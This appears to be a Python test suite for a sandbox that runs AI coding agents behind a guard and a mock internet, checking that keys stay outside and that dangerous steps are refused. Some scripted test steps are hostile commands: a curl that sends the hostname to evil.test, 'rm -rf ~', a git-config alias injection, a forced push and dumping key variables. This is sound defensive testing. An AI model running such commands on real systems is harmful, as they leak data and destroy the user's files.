#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Real agents behind real walls: coding agents, whose models are played by the fake internet (agent_api.py).

Each is started as a person would start it. What happened is read on the disk, at the far end of the wire and in the
events; exit statuses of agents mislead. tools/deps --test installs them."""

import json
import os
import re
import shlex
import shutil
import subprocess
import sys
import tempfile
import time
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

import agent_api  # noqa: E402
import agents_table  # noqa: E402
from harness import Patience, PATH, Skip, eq, has, has_not, lasting, main, soon, test  # noqa: E402
from internet import Internet, make_chain  # noqa: E402

# The versions that tools/deps.d/npm names; `make test-agents` runs the same tests with the newest ones.
AGENTS = Path(os.environ.get("VITRINE_TEST_AGENTS") or Path(__file__).resolve().parent.parent.parent / "build" / "agents").resolve()
KEYS = {"ANTHROPIC_API_KEY": "sk-ant-api03-RealKeyRealKey0123456789abcdef",
        "OPENAI_API_KEY": "sk-proj-RealKeyRealKey0123456789abcdefghij",
        "GEMINI_API_KEY": "AIzaSyRealKeyRealKey0123456789abcdefghij",
        "GH_TOKEN": "github_pat_11ABCDEFG0RealKeyRealKey01_" + "a" * 59,
        "FACTORY_API_KEY": "fk-RealKeyRealKey0123456789abcdefghij"}
# Codex asks its own service for models and opens a WebSocket to it unless a provider is named.
PROVIDER = ("-m", "gpt-5", "-c", "model_provider=far", "-c",
            'model_providers.far={name="far",base_url="https://api.openai.com/v1",env_key="OPENAI_API_KEY",wire_api="responses"}')
FAR_TOML = 'name = "far"\nbase_url = "https://api.openai.com/v1"\nenv_key = "OPENAI_API_KEY"\nwire_api = "responses"\n'
MCP = r'''
import json, sys
for line in sys.stdin:
    q = json.loads(line)
    if q.get("method") == "initialize":
        a = {"protocolVersion": q["params"]["protocolVersion"], "capabilities": {"tools": {}}, "serverInfo": {"name": "mini", "version": "1"}}
    elif q.get("method") == "tools/list":
        open("mcp.up", "w").close()
        a = {"tools": [{"name": "mark", "description": "mark", "inputSchema": {"type": "object", "properties": {"text": {"type": "string"}}}}]}
    elif q.get("method") == "tools/call":
        open("mcp.txt", "w").write(q["params"]["arguments"]["text"])
        a = {"content": [{"type": "text", "text": "marked"}]}
    else:
        a = {}
    if "id" in q:
        print(json.dumps({"jsonrpc": "2.0", "id": q["id"], "result": a}), flush=True)
'''
# Seconds for one run of an agent: some start slowly, and `make test-agents` may share the machine.
LONG = 150
world = None


class World:
    def __init__(self):
        self.d = Path(tempfile.mkdtemp(prefix="agents-"))
        self.d.chmod(0o755)
        chain = make_chain(self.d, agent_api.HOSTS)
        self.net = Internet(tls=str(chain))
        lasting.add(self.net.pid)

    def env(self):
        return {**KEYS, "SSL_CERT_FILE": str(self.d / "trust.pem"), "PATH": f"{AGENTS}/node_modules/.bin:{PATH}"}

    def calls(self, host):
        return [c for c in self.net.lines() if c["kind"] == "api" and c["host"] == host and "results" in c]


def needs_node(program):
    """Some agents need a newer node than the distribution has, and say so."""
    package = next(p / "package.json" for p in program.resolve().parents if (p / "package.json").exists())
    least = re.search(r">=\s*(\d+)", json.loads(package.read_text()).get("engines", {}).get("node", ""))
    own = AGENTS / "node_modules" / ".bin" / "node"
    here = re.match(r"v(\d+)", subprocess.run([own if own.exists() else "node", "--version"], capture_output=True, text=True).stdout)
    if least and here and int(here[1]) < int(least[1]):
        raise Skip(f"{program.name} needs node {least[1]}, and here is {here[0]}")


def there(program, where=""):
    global world
    if os.geteuid() != 0:
        raise Skip("a fake internet needs root")
    file = AGENTS / "node_modules" / (where or ".bin") / program
    if not file.exists():
        raise Skip(f"{program} is not installed; tools/deps --test does it")
    needs_node(file)
    if world is None:
        world = World()
    world.net.clear()
    return world


def script(*steps):
    return f"SCRIPT {json.dumps(steps)} END"


def claude(box, w, *steps, more=(), args=()):
    r = box.run("claude", ".", "--read", AGENTS, *more, "--", "-p", script(*steps), *args, env=w.env(), timeout=40)
    eq(r.rc, 0, r.out + r.err)
    return r, [c["results"] for c in w.calls("api.anthropic.com")][-1]


def codex(box, w, *steps):
    r = box.run("codex", ".", "--read", AGENTS, "--", "codex", "exec", "--dsp", "--skip-git-repo-check", *PROVIDER,
                script(*steps), env=w.env(), timeout=40)
    eq(r.rc, 0, r.out + r.err)
    return r, [c["results"] for c in w.calls("api.openai.com")][-1]


def events(box, name, kind):
    r = box.cli("events", name, "--json", "--type", kind)
    eq(r.rc, 0, r.err)
    return [json.loads(line)["data"] for line in r.out.splitlines()]


def nowhere(box, key):
    """The key is in no file that Vitrine keeps and in none that an agent left."""
    for top in (box.state, box.ws, box.home):
        for f in top.rglob("*"):
            if f.is_file() and not f.is_symlink() and key.encode() in f.read_bytes():
                raise AssertionError(f"the key lies in {f}")


# Where the agents' own files name what lies where their logins live: which files, which words in them (the path is the group), and
# whether texts stand behind each other without an end, so that a word is known by its beginning.
LOGIN_WORDS = [
    ("@anthropic-ai/claude-code-linux-x64/claude", rb"(/(?:api|v1)/oauth/[a-z_]+(?:/[a-z_]+)*)", False),
    ("@anthropic-ai/claude-code-linux-x64/claude", rb"https://[a-z.]*(?:anthropic\.com|claude\.com|claude\.ai)(/[a-z/_-]*oauth[a-z/_-]*)", False),
    ("@openai/codex-linux-x64/vendor/*/bin/codex", rb"auth\.openai\.com((?:/[a-z_]+)*)", True),
    ("@openai/codex-linux-x64/vendor/*/bin/codex", rb"(/deviceauth/[a-z]+)", True),
    ("@openai/codex-linux-x64/vendor/*/bin/codex", rb"(/v1/agent/[a-z]+)", True),
    ("@google/gemini-cli/bundle/*.js", rb"(?:oauth2\.googleapis\.com|www\.googleapis\.com(?=/oauth2))(/[A-Za-z0-9_/]+)", False),
    # It unpacks itself when it is started (UNPACKED).
    ("prebuilds/*/runtime.node", rb"(/login/(?:device|oauth)/[a-z_]+|/copilot_internal/v[0-9]+/[a-z_]+)", True),
]
# Pages for a person's browser; and what is closed on purpose: a key that Codex makes for itself would open the account from anywhere. Newer
# versions of Claude Code know keys of gateways, the pairing of another device and a question about the organization; these are closed, too.
LOGIN_OTHERS = {"/agent/register", "/api/oauth/cri", "/api/oauth/local_pairing", "/api/oauth/org", "/cai/oauth/authorize", "/oauth/authorize", "/oauth/code/callback", "/oauth/code/success", "/oauth/claude-code-client-metadata", "/v1/agent/register"}
# How tokens begin and under which keys they stand, as the agents' own files have them.
TOKEN_WORDS = {
    "@anthropic-ai/claude-code-linux-x64/claude": (rb'startsWith\("(sk-[a-z]+-)', {"sk-ant-"}, (b"raw_key", b"access_token", b"refresh_token")),
    "@openai/codex-linux-x64/vendor/*/bin/codex": (rb"sk-(?:proj|svcacct)-", {"sk-proj-", "sk-svcacct-"}, (b"id_token", b"access_token", b"refresh_token")),
}
UNPACKED = "@github/copilot-linux-x64/copilot"


def login_files(box, pattern):
    program = AGENTS / "node_modules" / UNPACKED
    if not pattern.startswith("prebuilds"):
        return sorted((AGENTS / "node_modules").glob(pattern))
    to = box.ws / "unpacked"
    if program.exists():
        r = box.run("--read", AGENTS.resolve(), "-e", f"XDG_CACHE_HOME={to}", "--", program.resolve(), "--version", timeout=120)
        eq(r.rc, 0, r.err)
    return sorted(to.glob("copilot/pkg/*/*/" + pattern))


def is_known(path, known, is_run_on):
    """A word that runs on into the next text is known by its beginning, unless it goes on below that with what is not known."""
    if path in known or any(k.endswith("/**") and (path + "/").startswith(k[:-2]) for k in known):
        return True
    ends = [path[len(k):] for k in known if is_run_on and len(k) > 4 and path.startswith(k)]
    return any(not e.startswith("/") or is_known(e, known, True) for e in ends)


@test(who=("user",), timeout=180)
def endpoints_of_logins_are_those_of_the_agents(box):
    """Every word by which an agent asks where its login lives is in our table: a new version with another one fails here."""
    table = (Path(__file__).resolve().parent.parent.parent / "src" / "secret" / "login.c").read_text()
    table = re.sub(r'"\s*"', "", table)
    known = set(re.findall(r'"(?:[A-Z,]+ )?[a-z0-9.]+(/[A-Za-z0-9_/.*]+)"', table)) | LOGIN_OTHERS
    # /deviceauth stands behind a base of its own.
    known |= {k[k.index("/deviceauth"):] for k in known if "/deviceauth/" in k}
    here = {p: login_files(box, p) for p in {p for p, _, _ in LOGIN_WORDS}}
    # `make test-agents` has each agent in a folder of its own.
    if not all(here.values()) and not (os.environ.get("VITRINE_TEST_AGENTS") and any(here.values())):
        raise Skip(f"not installed: {sorted(p for p in here if not here[p])}")
    for pattern, words, is_run_on in LOGIN_WORDS:
        files = here[pattern]
        if not files:
            continue
        found = {m.decode() for f in files for m in re.findall(words, f.read_bytes())} - {""}
        eq(len(found) >= 1, True, f"{pattern}: {words} is not found any more")
        new = sorted(w for w in found if not is_known(w.rstrip("/"), known, is_run_on))
        eq(new, [], f"{pattern}: not in src/secret/login.c")
    for pattern, (begin, marks, keys) in TOKEN_WORDS.items():
        if not here[pattern]:
            continue
        text = here[pattern][0].read_bytes()
        eq({m.decode() for m in re.findall(begin, text)} <= marks, True, f"{pattern}: tokens begin otherwise: {set(re.findall(begin, text))}")
        eq([k for k in keys if k not in text], [], f"{pattern}: keys of tokens")
        eq([m for m in marks if f'"{m}"' not in table], [], "in src/secret/login.c")


@test(who=("user",))
def another_word_of_a_login_is_noticed(box):
    """The test above, held against words that no version has yet."""
    known = {"/oauth/token", "/api/oauth/files/**", "/api/accounts", "/deviceauth/token"}
    for path, is_run_on in (("/oauth/keys", False), ("/oauth/tokens", False), ("/api/accounts/keys", True), ("/deviceauth/key", True), ("/api/oauth/file", False)):
        eq(is_known(path, known, is_run_on), False, path)
    for path, is_run_on in (("/oauth/token", False), ("/oauth/tokenhttps", True), ("/api/oauth/files/x", False), ("/api/oauth/files", False), ("/api/accountsagent", True)):
        eq(is_known(path, known, is_run_on), True, path)


@test(timeout=60)
def claude_works(box):
    """It runs commands and edits files; the model's host gets the real key, the inside never sees it."""
    w = there("claude")
    key = KEYS["ANTHROPIC_API_KEY"]
    r, results = claude(box, w, {"sh": "echo made > made.txt; env | grep -i key; id -un"}, {"write": [str(box.ws / "w.txt"), "hello"]})
    eq((box.read("made.txt"), box.read("w.txt")), ("made\n", "hello"), "on the disk")
    eq({c["key"] for c in w.calls("api.anthropic.com")}, {key}, "on the wire")
    has(results[0], "ANTHROPIC_API_KEY=sk-ant-api03-")
    has_not(results[0] + r.out + r.err, key)
    nowhere(box, key)
    name = f"claude-{box.ws.name}"
    requests = [e for e in events(box, name, "net.request") if e["host"] == "api.anthropic.com"]
    assert any(e["method"] == "POST" and "/v1/messages" in e["request"] for e in requests), requests
    eq(events(box, name, "session.started")[-1]["argv"][:2], ["claude", "--dangerously-skip-permissions"])
    has_not(json.dumps(requests), key)
    told = events(box, name, "otel")
    assert any(e.get("service") == "claude-code" for e in told), f"its own telemetry is kept: {told[:3]}"


@test(who=("user",), timeout=60)
def claude_is_held(box):
    """What it is told to do and may not: another host, the user's files, what would run on the host later, its own home."""
    w = there("claude")
    (box.home / "diary.txt").write_text("dear diary")
    box.own(box.home)
    box.write(".git/config", "[core]\n")
    _, results = claude(
        box, w, {"sh": "curl -sS -m 5 http://evil.test/$(hostname); echo rc $?"}, {"sh": f"cat {box.home}/diary.txt"},
        {"write": [str(box.ws / "later.py"), "open('.git/config', 'a').write('[alias]')"]}, {"sh": "python3 later.py"},
        {"sh": "echo '[alias] x = !id' >> .git/config"}, {"sh": "rm -rf ~"}, {"sh": "git push --force origin main"})
    has(results[0], "no rule allows evil.test:80")
    has(results[1], "No such file")
    # What the guard does not see meets the wall; what it sees it refuses before.
    has(results[3].lower(), "read-only")
    has(results[4], "Vitrine guard", "repository's own data")
    has(results[5], "Vitrine guard", "home directory")
    has(results[6], "Vitrine guard")
    eq(w.net.hits("evil.test"), [], "at the far end")
    eq(box.read(".git/config"), "[core]\n")
    has_not(json.dumps(results), "dear diary")
    name = f"claude-{box.ws.name}"
    decided = [e["verdict"] for e in events(box, name, "guard.decision")]
    eq(decided, ["allow", "allow", "allow", "allow", "ask", "deny", "deny"], "the guard's decisions, on record outside")
    eq([e["tool"] for e in events(box, name, "tool.call")][:1], ["Bash"])
    refusals = events(box, name, "net.verdict")
    assert any(e["host"] == "evil.test" and e["verdict"] == "deny" for e in refusals), refusals


@test(timeout=60)
def claude_without_its_own_sandbox(box):
    """A project that switches Claude's own sandbox on cannot: these walls stand already, and its own would make every command fail."""
    w = there("claude")
    box.write(".claude/settings.json", json.dumps({"sandbox": {"enabled": True, "failIfUnavailable": True, "allowUnsandboxedCommands": False}}))
    _, results = claude(box, w, {"sh": "echo made > made.txt && echo MADE"})
    has(results[0], "MADE")
    eq(box.read("made.txt"), "made\n")


@test(timeout=60)
def claude_commits(box):
    """What README shows: a prompt as words, and a commit in the project at the end."""
    w = there("claude")
    prompt = project_to_commit(box)
    r = box.run("claude", ".", "--read", AGENTS, "--", prompt, env=w.env(), timeout=40)
    eq(r.rc, 0, r.out + r.err)
    has(r.out, "COMMITTED")
    eq(box.host("git", "log", "--format=%an %s"), "Ada from inside\n")


def project_to_commit(box):
    """A repository, the user's own name for it, and the prompt that has a file committed."""
    (box.home / ".gitconfig").write_text("[user]\n\tname = Ada\n\temail = ada@example.org\n")
    box.own(box.home / ".gitconfig")
    box.host("git", "init", "-q", "-b", "main", ".")
    box.write("a.txt", "one\n")
    return script({"sh": "git add a.txt && git commit -qm 'from inside' && git log --format=%s"}, {"say": "COMMITTED"})


@test(who=("user",), timeout=90)
def claude_begins_with_a_prompt(box):
    """The same where a person sits: the conversation begins with the prompt, and goes on."""
    w = there("claude")
    if not shutil.which("tmux"):
        raise Skip("no tmux; tools/deps --test installs it")
    prompt = project_to_commit(box)
    t = Tmux(box, w.env(), f"{box.program} run claude . --read {AGENTS} -- {shlex.quote(prompt)}; echo LEFT; exec sh")
    try:
        t.shows("\u25cf COMMITTED")
        eq(box.host("git", "log", "--format=%an %s"), "Ada from inside\n")
        t.type("/exit")
        t.shows("LEFT")
    finally:
        t.tmux("kill-server")
        box.cli("stop", f"claude-{box.ws.name}")


@test(who=("user",), timeout=60)
def claude_pushes_its_branch(box):
    """To the branches that a rule lists and to no others; what it pushes to does not exist inside."""
    w = there("claude")
    up, author = box.dir / "up.git", ("-c", "user.name=n", "-c", "user.email=n@x")
    box.host("git", "init", "-q", "--bare", "-b", "main", up)
    box.host("git", "init", "-q", "-b", "main", ".")
    box.host("git", *author, "commit", "-q", "--allow-empty", "-m", "one")
    box.host("git", "remote", "add", "origin", up)
    box.host("git", "push", "-q", "origin", "main")
    _, results = claude(
        box, w, {"sh": f"git checkout -q -b agent/x && echo two > a.txt && git add a.txt && git {' '.join(author)} commit -qm two && "
                       f"git push -q origin agent/x && echo PUSHED; ls {up}"}, {"sh": "git push origin agent/x:main"},
        more=("--broker-push", f"{up} refs/heads/agent/*"))
    has(results[0], "PUSHED", "No such file")
    has(results[1], "no rule of broker.push covers this ref")
    eq(box.host("git", "-C", up, "rev-parse", "agent/x"), box.host("git", "rev-parse", "agent/x"))
    eq(box.host("git", "-C", up, "log", "--format=%s", "main"), "one\n")
    eq([(e["verdict"], e.get("status")) for e in events(box, f"claude-{box.ws.name}", "broker.ran") if e["argv"][1] == "push"],
       [("allow", None), ("allow", 0), ("deny", None)])


@test(who=("user",), timeout=60)
def claude_in_review(box):
    """Nothing reaches the workspace before somebody says so."""
    w = there("claude")
    box.write("old.txt", "old\n")
    claude(box, w, {"sh": "echo new > new.txt; rm old.txt"}, more=("--mode", "review"))
    assert (box.ws / "old.txt").exists() and not (box.ws / "new.txt").exists()
    name = f"claude-{box.ws.name}"
    eq(sorted(box.cli("diff", name, "--name-only").out.split()), ["new.txt", "old.txt"])
    eq(box.cli("apply", name).rc, 0)
    assert not (box.ws / "old.txt").exists()
    eq(box.read("new.txt"), "new\n")


@test(who=("user",), timeout=60)
def claude_in_a_loop(box):
    """Tokens and cost are its own words; the check runs inside; the second iteration finds what the first one left."""
    w = there("claude")
    prompt = script({"sh": "echo x >> log; cat log"}, {"say": "ALL-FINE"})
    r = box.cli("loop", "claude", ".", "--prompt", prompt, "--until", "test $(wc -l < log) = 2", "--max", "4", "--json", "--",
                "--read", AGENTS, env=w.env(), timeout=50)
    eq(r.rc, 0, r.out + r.err)
    s = json.loads(r.out)
    eq((s["reason"], s["iterations"], s["mode"]), ("check", 2, "review"))
    eq([(x["outcome"], x["files"], x["check_status"], x["said"]) for x in s["runs"]],
       [("ok", ["log"], 1, "ALL-FINE"), ("ok", ["log"], 0, "ALL-FINE")])
    assert s["tokens_in"] >= 200 and s["tokens_out"] >= 40 and s["cost_usd"] > 0, s
    assert not (box.ws / "log").exists()
    has_not(r.out + r.err, KEYS["ANTHROPIC_API_KEY"])
    nowhere(box, KEYS["ANTHROPIC_API_KEY"])


@test(who=("user",), timeout=150)
def claude_uses_mcp(box):
    """The project's servers: one of its own runs inside, beside the agent; a remote one is reached where its host is allowed."""
    w = there("claude")
    box.write("mini.py", MCP)
    box.write(".mcp.json", json.dumps({"mcpServers": {"mini": {"command": "python3", "args": ["mini.py"]},
                                                      "far": {"type": "http", "url": "https://mcp.test/mcp"}}}))
    # It connects while the model thinks already, so the model tries more than once.
    near, far = ({"call": f"mcp__{c}", "with": {"text": "from a tool"}} for c in ("mini__mark", "far__echo"))
    wait = {"sh": "until test -e mcp.up; do sleep 0.05; done; sleep 0.3"}
    steps = [wait, near, far, *[{**s, "unless": "from afar"} for s in ({"sh": "sleep 0.5"}, far) * 8]]
    _, results = claude(box, w, *steps, more=("--allow", "mcp.test"))
    has(results[1], "marked")
    eq(box.read("mcp.txt"), "from a tool")
    assert any("from afar: from a tool" in x for x in results), results
    eq([c["said"] for c in w.net.lines() if c.get("call") == "tools/call"][0], {"text": "from a tool"}, "on the wire")
    w.net.clear()
    _, results = claude(box, w, *steps[:3], more=("--name", "held"))
    assert not any("from afar" in x for x in results), results
    eq(w.net.hits("mcp.test"), [], "at the far end")


class Tmux:
    """A terminal that a person would sit at, and what stands on it."""

    def __init__(self, box, env, command, size=(100, 30)):
        self.box, self.env, self.socket = box, env, box.dir / "tmux"
        self.tmux("new-session", "-d", "-x", str(size[0]), "-y", str(size[1]), command)

    def tmux(self, *args):
        p = self.box.popen(["tmux", "-S", self.socket, "-f", "/dev/null", *args], stdin=subprocess.DEVNULL,
                           stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=self.env)
        return self.box.finish(p).out

    def screen(self):
        return self.tmux("capture-pane", "-p")

    def shows(self, *needles, seconds=30):
        end = time.monotonic() + seconds
        while not all(n in self.screen() for n in needles):
            if time.monotonic() > end:
                raise AssertionError(f"{needles} never appeared: {self.screen()}")
            time.sleep(0.1)

    def wake(self, echo):
        """Until a key is taken."""
        end = time.monotonic() + LONG
        while echo + "Z" not in self.screen() and time.monotonic() < end:
            self.tmux("send-keys", "-l", "Z")
            time.sleep(1)
        while echo + "Z" in self.screen() and time.monotonic() < end:
            self.tmux("send-keys", "BSpace")
            time.sleep(0.5)

    def type(self, text, is_slow=False):
        """The key comes once the text stands there: together they would be something pasted, which sends nothing."""
        before = self.screen()
        for part in text if is_slow else [text]:
            self.tmux("send-keys", "-l", part)
        soon(lambda: self.screen() != before, f"{text!r} appears", 30)
        self.shows(text[-4:])
        patience, last = Patience(3), None
        while not patience.is_over() and last != self.screen():
            last = self.screen()
            time.sleep(0.2)
        self.tmux("send-keys", "Enter")


@test(who=("user",), timeout=120)
def claude_at_a_terminal(box):
    """No question before the first prompt; keys, interrupts and sizes arrive; leaving and coming back."""
    w = there("claude")
    if not shutil.which("tmux"):
        raise Skip("no tmux; tools/deps --test installs it")
    name = f"claude-{box.ws.name}"
    t = Tmux(box, w.env(), f"{box.program} run claude . --read {AGENTS}; echo LEFT; exec sh")
    try:
        t.shows("bypass permissions on", "\u2500" * 100)
        t.type(script({"sh": "echo made > made.txt"}, {"say": "ANSWERED"}))
        t.shows("\u25cf ANSWERED")
        eq(box.read("made.txt"), "made\n")
        # A script begins behind what is already in the conversation.
        t.type(script({}, {"sh": "touch going; sleep 300"}))
        soon(lambda: (box.ws / "going").exists(), "the command runs", 20)
        t.shows("interrupt")
        t.tmux("send-keys", "C-c")
        t.shows("Interrupted")
        t.tmux("resize-window", "-x", "70", "-y", "24")
        t.shows("\n" + "\u2500" * 70 + "\n")
        t.tmux("send-keys", "C-p", "C-q")
        t.shows("LEFT")
        eq(json.loads(box.cli("ls", "--json").out)[0]["status"], "running", "it goes on without a terminal")
        t.type(f"clear; {box.program} attach {name}")
        t.shows("bypass permissions on")
        t.type(script({}, {}, {"say": "STILL-HERE"}))
        t.shows("\u25cf STILL-HERE")
        t.type("/exit")
        soon(lambda: events(box, name, "session.ended"), "it ends when asked to", 20)
    finally:
        t.tmux("kill-server")
        box.cli("stop", name)


@test(timeout=60)
def codex_works(box):
    w = there("codex")
    key = KEYS["OPENAI_API_KEY"]
    r, results = codex(box, w, {"sh": "echo made > made.txt; env | grep -i key"}, {"sh": "curl -sS -m 5 http://evil.test/"},
                       {"sh": "git push --force origin main"})
    eq(box.read("made.txt"), "made\n", "on the disk")
    eq({c["key"] for c in w.calls("api.openai.com")}, {key}, "on the wire")
    has(results[0], "OPENAI_API_KEY=sk-proj-")
    has(results[1], "no rule allows evil.test:80")
    has(results[2], "Vitrine guard")
    has_not(json.dumps(results) + r.out + r.err, key)
    nowhere(box, key)
    eq(w.net.hits("evil.test"), [])
    told = events(box, f"codex-{box.ws.name}", "otel")
    assert any("codex" in str(e.get("service")) for e in told), f"its own telemetry is kept: {told[:3]}"


def given_a_prompt(box, agent, host, variable, tools, tokens=100, said="The end.", service=None):
    """One iteration of a loop: the preset's own words, a command, a file, what the guard says, and what the agent reports."""
    w = there(agent)
    key, name = KEYS[variable], f"loop-{agent}-{box.ws.name}"
    prompt = script({"sh": f"echo made > made.txt; printenv {variable} > inside.txt"}, {"write": [str(box.ws / "w.txt"), "hello"]},
                    {"sh": "git push --force origin main"})
    r = box.cli("loop", agent, ".", "--prompt", prompt, "--max", "1", "--mode", "direct", "--json", "--", "--read", AGENTS,
                env=w.env(), timeout=130)
    eq(r.rc, 0, r.out + r.err)
    eq((box.read("made.txt"), box.read("w.txt").strip()), ("made\n", "hello"), "on the disk")
    calls = w.calls(host)
    eq({c["key"] for c in calls}, {key}, "on the wire")
    results = calls[-1]["results"]
    eq(box.read("inside.txt")[:3], key[:3], "a placeholder of the same shape")
    has(results[2], "Vitrine guard")
    has_not(json.dumps(results) + r.out + r.err, key)
    nowhere(box, key)
    eq([(e["tool"], e["verdict"]) for e in events(box, name, "guard.decision")],
       list(zip(tools, ("allow", "allow", "deny"))), "the guard's decisions, on record outside")
    if service:
        told = events(box, name, "otel")
        assert any(e.get("service") == service for e in told), f"its own telemetry is kept: {told[:3]}"
    run = json.loads(r.out)["runs"][0]
    eq(run["outcome"], "ok")
    assert run.get("tokens_in", 0) >= tokens, f"tokens, in its own words: {run}"
    has(run.get("said", ""), said)


@test(timeout=90)
def codex_in_a_loop(box):
    """The preset's own words are given once; its own sandbox is off whatever the project says, also in a command of the user's."""
    w = there("codex")
    box.write(".codex/config.toml", 'sandbox_mode = "read-only"\n')
    eq(box.cli("create", "codex", ".", "--name", "c", "--read", AGENTS, env=w.env()).rc, 0)
    provider = f"model = \"gpt-5\"\nmodel_provider = \"far\"\n{{}}\n[model_providers.far]\n{FAR_TOML}"
    r = box.cli("run", "c", "--", "python3", "-c",
                "import os,sys; p = os.path.expanduser('~/.codex/config.toml'); t = open(p).read(); open(p, 'w').write(sys.argv[1].replace('{}', t))",
                provider, env=w.env())
    eq(r.rc, 0, r.err)
    r = box.cli("loop", "codex", ".", "--name", "c", "--mode", "direct", "--prompt", script({"sh": "echo x >> log; cat log"}, {"say": "ALL-FINE"}), "--until", "test $(wc -l < log) = 2", "--max", "3",
                "--json", env=w.env(), timeout=60)
    eq(r.rc, 0, r.out + r.err)
    s = json.loads(r.out)
    eq([(x["outcome"], x["said"]) for x in s["runs"]], [("ok", "ALL-FINE")] * 2, r.out)
    r = box.run("c", "--", "codex", "exec", "--skip-git-repo-check", script({"sh": "echo made > made.txt; cat /etc/codex/managed_config.toml"}), env=w.env(), timeout=40)
    eq(r.rc, 0, r.out + r.err)
    eq(box.read("made.txt"), "made\n", r.out + r.err)


# The two identities are tested side by side, so the slower ones are dealt out between them.
@test(who=("root",), timeout=150)
def gemini_works(box):
    given_a_prompt(box, "gemini", "generativelanguage.googleapis.com", "GEMINI_API_KEY",
                   ("run_shell_command", "write_file", "run_shell_command"), service="gemini-cli")


@test(who=("root",), timeout=150)
def opencode_works(box):
    given_a_prompt(box, "opencode", "api.anthropic.com", "ANTHROPIC_API_KEY", ("bash", "write", "bash"))


@test(who=("user",), timeout=150)
def copilot_works(box):
    given_a_prompt(box, "copilot", "api.githubcopilot.com", "GH_TOKEN", ("bash", "create", "bash"), tokens=0)


@test(who=("user",), timeout=150)
def droid_works(box):
    given_a_prompt(box, "droid", "api.factory.ai", "FACTORY_API_KEY", ("Execute", "Execute", "Execute"))


# ------------------------------------------------------------------------------------------- the matrix
# One test of each cell of tests/agents_table.py. `make test` runs only those of SLICE; `make test-agents` (tests/agents.py) all of them,
# with the versions that are named and with the newest ones.

SLICE = {("claude", "resumed"), ("codex", "resumed"), ("codex", "terminal")}


class Cell:
    """One agent of the table, pointed at the mock service, in a sandbox of its own."""

    def __init__(self, box, name):
        self.box, self.name, self.a = box, name, agents_table.TABLE[name]
        self.w = there(self.a.program or name, self.a.bin)
        self.sandbox = f"{name}-{box.ws.name}"
        # What only the mock service needs: a provider, a model.
        self.env = {**self.w.env(), **self.a.env}
        self.env["PATH"] = f"{AGENTS}/node_modules/{self.a.bin}:{self.env['PATH']}" if self.a.bin else self.env["PATH"]
        if self.a.files or self.a.before:
            eq(box.cli("create", name, ".", "--name", self.sandbox, "--read", AGENTS, env=self.env).rc, 0)
        for path, (head, tail) in self.a.files.items():
            r = self.inside("sh", "-c", 'f=$HOME/$1; mkdir -p "${f%/*}"; { printf %s "$2"; cat "$f" 2>/dev/null; printf %s "$3"; } >"$f.new" && mv "$f.new" "$f"',
                            "sh", path, head, tail)
            eq(r.rc, 0, r.err)
        if self.a.before:
            r = self.inside(*self.a.before)
            eq(r.rc, 0, r.out + r.err)

    def inside(self, *words):
        return self.box.run(self.sandbox, "--", *words, env=self.env, timeout=LONG)

    def words(self, mode, *steps):
        return [script(*steps) if x == agents_table.PROMPT else x for x in mode]

    def target(self):
        """What `vitrine run` is given: the sandbox that was prepared, or the agent's word."""
        return (self.sandbox,) if self.a.files or self.a.before else (self.name, ".", "--read", AGENTS)

    def run(self, mode, *steps):
        r = self.box.run(*self.target(), "--", *self.words(mode, *steps), env=self.env, timeout=LONG)
        self.said = r.out + r.err
        eq(r.rc, 0, self.said)
        return r

    def left(self, rel, text):
        """A file that the agent's command left in the project."""
        p = self.box.ws / rel
        if not p.exists() or p.read_text() != text:
            calls = [{k: v for k, v in c.items() if k in ("host", "path", "asks", "tools", "results")} for c in self.w.net.lines() if c["kind"] == "api"]
            raise AssertionError(f"{rel}: {p.read_text() if p.exists() else 'not there'!r}; it said: {self.said[-1500:]}; the model was asked: {calls[-3:]}")

    def results(self):
        calls = self.w.calls(self.a.host)
        if not calls:
            raise AssertionError(f"the model was not asked: {self.said[-2000:]} {[c for c in self.w.net.lines() if c['kind'] == 'api'][-5:]}")
        return max((c["results"] for c in calls), key=len)

    def key_stays_outside(self):
        key = KEYS[self.a.key]
        eq({c["key"] for c in self.w.calls(self.a.host)}, {key}, "on the wire")
        has_not(json.dumps(self.results()) + self.said, key)
        nowhere(self.box, key)


def cell_headless(c):
    """A prompt without a person: a command runs, a file is made, and the key is on the wire only."""
    c.run(c.a.headless, {"sh": f"echo made > made.txt; printenv {c.a.key} > inside.txt; echo RAN"}, {"say": "ALL-FINE"})
    c.left("made.txt", "made\n")
    has(c.said, "ALL-FINE")
    eq(c.box.read("inside.txt")[:3], KEYS[c.a.key][:3], "a placeholder of the same shape")
    c.key_stays_outside()


def cell_resumed(c):
    """What the first run did is in the conversation that the second one sends."""
    c.run(c.a.first or c.a.headless, {"sh": "printf 'FIRST-%s\\n' 42 > first.txt; cat first.txt"}, {"say": "ONE"})
    c.w.net.clear()
    # Some send a result twice when they resume, so the step is not known by its number.
    c.run(c.a.resumed, *[{"sh": "echo SECOND | tee second.txt", "unless": "SECOND"}] * 6)
    c.left("first.txt", "FIRST-42\n")
    c.left("second.txt", "SECOND\n")
    has(json.dumps(c.results()), "FIRST-42")


def cell_loop(c):
    """The preset's own words, twice: the second iteration finds what the first one left, and the check ends the loop."""
    name = ("--name", c.sandbox) if c.a.files or c.a.before else ()
    prompt = script({"sh": "echo x >> log; cat log"}, {"say": "ALL-FINE"})
    r = c.box.cli("loop", c.name, ".", *name, "--mode", "direct", "--prompt", prompt, "--until", "test $(wc -l < log) = 2", "--max", "3", "--json",
                  *(() if name else ("--", "--read", AGENTS)), env=c.env, timeout=LONG)
    c.said = r.out + r.err
    eq(r.rc, 0, c.said)
    s = json.loads(r.out)
    eq((s["reason"], s["iterations"], [x["outcome"] for x in s["runs"]]), ("check", 2, ["ok", "ok"]), r.out)
    if c.a.says:
        eq([x.get("said", "").strip() for x in s["runs"]], ["ALL-FINE"] * 2, r.out)


def cell_guard(c):
    """A dangerous command is refused by the hook before it runs; the agent is given the reason, and the decision is on record outside."""
    c.run(c.a.guarded or c.a.headless, {"sh": "echo made > made.txt"}, {"sh": "git push --force origin main"}, {"say": "ALL-FINE"})
    c.left("made.txt", "made\n")
    has(c.results()[1], "Vitrine guard")
    eq([e["verdict"] for e in events(c.box, c.sandbox, "guard.decision")], ["allow", "deny"])


def cell_walls(c):
    """A project that switches the agent's own sandbox on cannot: commands work."""
    for path, text in c.a.walls.items():
        c.box.write(path, text if isinstance(text, str) else json.dumps(text))
